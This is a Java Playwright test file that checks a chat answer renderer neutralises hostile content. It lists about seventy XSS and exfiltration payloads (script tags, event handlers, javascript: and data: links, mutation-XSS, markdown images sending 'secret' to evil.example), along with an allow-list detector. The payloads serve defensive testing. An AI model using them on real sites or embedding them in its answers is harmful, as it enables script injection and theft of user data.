package dev.docent.http.web;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static dev.docent.http.web.ScriptedService.says;
import static dev.docent.http.web.ScriptedService.with;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Answers that try to do more than be read. {@code pwned()} must never run, and nothing must leave.
 */
class HostileAnswersTest extends BrowserTest {
    private static final List<String> HOSTILE =
            List.of(
                    "<script>pwned()</script>",
                    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                    "<img src=x onerror=pwned()>",
                    "<img src=//evil.example/p.png>",
                    "<svg onload=pwned()>",
                    "<svg><script>pwned()</script></svg>",
                    "<svg><use href=//evil.example/x.svg#a></svg>",
                    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
                    "<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
                    "<math href=javascript:pwned()>click</math>",
                    "<iframe src=javascript:pwned()></iframe>",
                    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
                    "<object data=javascript:pwned()>",
                    "<embed src=//evil.example/x>",
                    "<form action=//evil.example><input name=q autofocus onfocus=pwned()></form>",
                    "<body onload=pwned()>",
                    "<details open ontoggle=pwned()>",
                    "<video><source onerror=pwned()></video>",
                    "<audio src=//evil.example/a.mp3 autoplay>",
                    "<link rel=stylesheet href=//evil.example/x.css>",
                    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/b)}</style>",
                    "<meta http-equiv=refresh content='0;url=//evil.example'>",
                    "<base href=//evil.example/>",
                    "<p style='background:url(//evil.example/b)'>styled</p>",
                    "<a href=javascript:pwned()>link</a>",
                    "<a href=//evil.example ping=//evil.example/ping>ping</a>",
                    "<template><img src=x onerror=pwned()></template>",
                    "<noscript><p title=\"</noscript><img src=x onerror=pwned()>\">",
                    "<listing>&lt;img src=x onerror=pwned()&gt;</listing>",
                    "<xmp><p title=\"</xmp><img src=x onerror=pwned()>\"></xmp>",
                    "<!--><img src=x onerror=pwned()>-->",
                    "<![CDATA[><img src=x onerror=pwned()>]]>",
                    "<?xml version=1?><img src=x onerror=pwned()>",
                    "<custom-element onclick=pwned()>x</custom-element>",
                    "<div id=docent-question name=getElementById>clobber</div>",
                    "[click](javascript:pwned())",
                    "[click](JaVaScRiPt:pwned())",
                    "[click](java&#x0A;script:pwned())",
                    "[click](&#106;avascript:pwned())",
                    "[click](<java\tscript:pwned()>)",
                    "[click](\u0001javascript:pwned())",
                    "[click](vbscript:pwned())",
                    "[click](data:text/html,<script>pwned()</script>)",
                    "[click](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
                    "[click](blob:https://evil.example/x)",
                    "[click](file:///etc/passwd)",
                    "[click](https://evil.example/\"onmouseover=\"pwned())",
                    "[click](https://evil.example 'x\" onclick=\"pwned()')",
                    "[https://book.example](https://evil.example)",
                    "<javascript:pwned()>",
                    "![exfiltrate](https://evil.example/p.png?q=secret)",
                    "![x](x\"onerror=\"pwned())",
                    "![x][pixel]\n\n[pixel]: https://evil.example/p.png",
                    "[![x](https://evil.example/p.png)](javascript:pwned())",
                    "[Source 1]: javascript:pwned()\n\n[Source 1]",
                    "[Source 1](javascript:pwned())",
                    "```html\n<script>pwned()</script>\n```",
                    "```\" onload=\"pwned()\ncode\n```",
                    "`<img src=x onerror=pwned()>`",
                    "| <img src=x onerror=pwned()> |\n| --- |\n| <svg onload=pwned()> |",
                    "# <img src=x onerror=pwned()>",
                    "- [ ] <input autofocus onfocus=pwned()>",
                    "safe \u202egnp.exe\u202c text \u2066hidden\u2069",
                    "&lt;img src=x onerror=pwned()&gt;",
                    "{{constructor.constructor('pwned()')()}} ${pwned()}",
                    "<p>\u0000<img src=x onerror=pwned()>",
                    "<".repeat(500) + "img src=x onerror=pwned()" + ">".repeat(500),
                    "[".repeat(500) + "x" + "](javascript:pwned())".repeat(500));

    /** Renders each answer in its turn and names all that could do harm. */
    private static final String RENDER =
            """
            async (answers) => {
              const { render } = await import('/render.js');
              const tags = /^(p|br|em|strong|del|code|pre|blockquote|ul|ol|li|hr|a|cite|small|div|h[3-6]|table|thead|tbody|tr|th|td)$/i;
              const attributes = /^(href|rel|target|dir|start|align|class|tabindex)$/;
              const harm = [];
              for (const answer of answers) {
                const box = document.body.appendChild(document.createElement('div'));
                box.append(render(answer, { site: 'https://book.example/', newTab: true }));
                for (const element of box.querySelectorAll('*')) {
                  if (!tags.test(element.localName)) harm.push(`${element.localName} from ${answer}`);
                  for (const { name } of element.attributes)
                    if (!attributes.test(name)) harm.push(`${name} from ${answer}`);
                  if (element.href && (!/^https?:/.test(element.href) || !element.rel.includes('noopener')))
                    harm.push(`${element.href} from ${answer}`);
                  element.dispatchEvent(new MouseEvent('mouseover'));
                  element.dispatchEvent(new FocusEvent('focus'));
                }
                if (/[\\u202a-\\u202e\\u2066-\\u2069]/.test(box.textContent)) harm.push(`direction from ${answer}`);
              }
              await new Promise((resolve) => setTimeout(() => requestAnimationFrame(resolve)));
              return harm;
            }\
            """;

    @Test
    void renderAsHarmlessTextEvenWithoutAPolicy() {
        service.on("/bare", with(200, "text/html", "<title>Bare</title>"));
        page.exposeFunction("pwned", arguments -> requests.add("pwned"));
        page.navigate(service.address() + "/bare");
        assertThat(HOSTILE).hasSizeGreaterThan(60);
        assertThat((List<?>) page.evaluate(RENDER, HOSTILE)).isEmpty();
        assertThat(requests)
                .isNotEmpty()
                .allMatch(url -> url.startsWith(service.address()))
                .doesNotContain("pwned");
    }

    @Test
    void staySoOnThePageItself() {
        page.exposeFunction("pwned", arguments -> requests.add("pwned"));
        service.answer(
                says(
                        String.join("\n\n", HOSTILE),
                        """
                        [{"file":"docs/<img src=x onerror=pwned()>.md","heading":"<svg onload=pwned()>",
                        "title":"<script>pwned()</script>","url":"javascript:pwned()",
                        "quote":"<img src=//evil.example/p onerror=pwned()>"}]\
                        """));
        openChatPage();
        ask("Be evil");
        assertThat(page.locator(".foot ol li")).hasCount(1);
        assertThat(page.locator(".foot a")).hasCount(0);
        page.locator(".cite").first().click();
        assertThat(page.locator(".quote a")).hasCount(0);
        assertThat(page.locator(".log :is(img, script, iframe, object, form, style, link)"))
                .hasCount(0);
        assertThat(requests)
                .allMatch(url -> url.startsWith(service.address()))
                .doesNotContain("pwned");
    }

    @Test
    void namesTheSiteThatALinkConceals() {
        Map<String, String> links =
                Map.of(
                        "[https://book.example](https://evil.example/x)",
                        "https://book.example (evil.example)",
                        "[manual](https://book.example/docs/x)",
                        "manual",
                        "[manual](/docs/x)",
                        "manual",
                        "https://other.example/x",
                        "https://other.example/x");
        service.on("/bare", with(200, "text/html", "<title>Bare</title>"));
        page.navigate(service.address() + "/bare");
        links.forEach((markdown, text) ->
                assertThat(
                                page.evaluate(
                                        """
                                        async (markdown) => (await import('/render.js'))
                                          .render(markdown, { site: 'https://book.example/', newTab: true })
                                          .textContent.trim()\
                                        """,
                                        markdown))
                        .isEqualTo(text));
    }
}
